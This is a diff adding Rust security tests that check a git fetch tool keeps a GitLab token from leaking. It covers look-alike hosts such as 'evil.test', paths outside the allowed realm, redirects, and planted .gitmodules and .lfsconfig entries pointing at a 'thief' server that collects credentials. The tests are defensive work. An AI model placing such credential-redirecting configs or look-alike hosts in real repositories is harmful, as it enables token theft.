@@ -1,0 +1,103 @@
+//! The same in a list of sources, and `sources fetch`. That each attack succeeds without protection is shown beside the tests of `run`.
+
+use serde_json::json;
+
+use super::{
+    Scene, Thief,
+    committed::git_lfs,
+    look_alike::{HOSTS, PATHS},
+};
+use crate::harness::{Clients, REPOSITORY, TlsFront, Vault};
+
+#[test]
+fn a_host_in_the_list_that_looks_like_the_realms_gets_nothing() {
+    let vault = Vault::lockbox();
+    let scene = Scene::start(&vault);
+    let at = format!("127.0.0.2:{}", scene.port());
+    let Some(thief) = Thief::at(&at) else {
+        println!("skipped: {at} is taken");
+        return;
+    };
+    let hosts = ["localhost.evil.test", "evil.test", "localhost."];
+    let resolved =
+        hosts.map(|host| format!("\tcurloptResolve = {host}:{}:127.0.0.2\n", scene.port())).concat();
+    let mut asked = 0;
+    for (url, _) in HOSTS {
+        scene.fetched(&url.replace("PORT", scene.port()), &format!("[http]\n{resolved}"), &[]);
+        assert_eq!(thief.loot(scene.token()), [], "{url}");
+        asked += thief.asked();
+        thief.forget();
+    }
+    assert!(asked > 0);
+    assert_eq!(scene.group.sandbox.credentials_seen(), Vec::<String>::new());
+}
+
+#[test]
+fn a_path_in_the_list_that_is_beside_the_realm_gets_nothing() {
+    let vault = Vault::lockbox();
+    let thief = Thief::start();
+    // The realm's server is not this GitLab, so that the realm alone decides.
+    let scene = Scene::start(&vault).on(thief.url()).elsewhere();
+    let fetched =
+        |path: &str| scene.fetched(&format!("{}/{path}", thief.url()), "", &["--realm", &scene.realm()]);
+    fetched(REPOSITORY);
+    assert!(!thief.loot(scene.token()).is_empty(), "in the realm it goes");
+    for path in PATHS {
+        thief.forget();
+        let finished = fetched(path);
+        let inside = |target: &str| {
+            let path = target.trim_start_matches("/gitlab-org/security/");
+            path != target && !path.contains("..") && !path.contains("%2")
+        };
+        let loot = thief.loot(scene.token());
+        assert!(loot.iter().all(|each| inside(&each.target)), "{path}: {loot:?} {}", finished.stderr);
+    }
+}
+
+#[test]
+fn no_redirect_is_followed() {
+    let vault = Vault::lockbox();
+    let scene = Scene::start(&vault);
+    let front = TlsFront::start(&scene.group.sandbox.url, "127.0.0.1", Clients::Anybody);
+    let scene = scene.on(&front.address).env("GIT_SSL_CAINFO", &front.file("ca.pem"));
+    let thief = Thief::start();
+    for to in [format!("{}/{REPOSITORY}", thief.url()), format!("{}/elsewhere/private.git", scene.server)] {
+        scene.group.sandbox.admin("POST", "/-/sandbox/redirects", &json!({"from": REPOSITORY, "to": to}));
+        let finished = scene.fetched(&format!("{}/{REPOSITORY}", scene.server), "", &[]);
+        assert_eq!(finished.code, Some(3), "{}", finished.stderr);
+        assert_eq!(thief.asked(), 0);
+        let seen = scene.group.sandbox.credentials_seen();
+        assert!(
+            !seen.is_empty() && seen.iter().all(|path| path.starts_with(&format!("/{REPOSITORY}"))),
+            "{seen:?}"
+        );
+    }
+}
+
+#[test]
+fn neither_a_submodule_nor_lfs_takes_the_token_elsewhere() {
+    let Some(program) = git_lfs() else { return };
+    let vault = Vault::lockbox();
+    let path = format!("{}:{}", program.parent().unwrap().display(), std::env::var("PATH").unwrap());
+    let scene = Scene::start(&vault).env("PATH", &path);
+    let thief = Thief::start();
+    let modules = format!("[submodule \"evil\"]\n\tpath = evil\n\turl = {}/{REPOSITORY}\n", thief.url());
+    let pointer =
+        format!("version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 7\n", "0a".repeat(32));
+    let wanted = json!({
+        "project": "gitlab-org/security/gitlab-shell", "branch": "main",
+        "files": {
+            ".gitmodules": modules, "large.bin": pointer, ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
+            ".lfsconfig": format!("[lfs]\n\turl = {}/{REPOSITORY}/info/lfs\n", thief.url()),
+        },
+        "submodules": {"evil": "0123456789012345678901234567890123456789"},
+    });
+    scene.group.sandbox.admin("POST", "/-/sandbox/commits", &wanted);
+    let lfs = "[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n";
+    let url = format!("{}/{REPOSITORY}", scene.server);
+    let fetched = scene.fetched(&url, lfs, &[]);
+    assert_eq!((fetched.code, thief.asked()), (Some(0), 0), "{}", fetched.stderr);
+    let fetched = scene.fetched(&url, lfs, &["--submodules"]);
+    assert_eq!(fetched.code, Some(3), "{}", fetched.stderr);
+    assert!(thief.asked() > 0 && thief.loot(scene.token()).is_empty());
+}
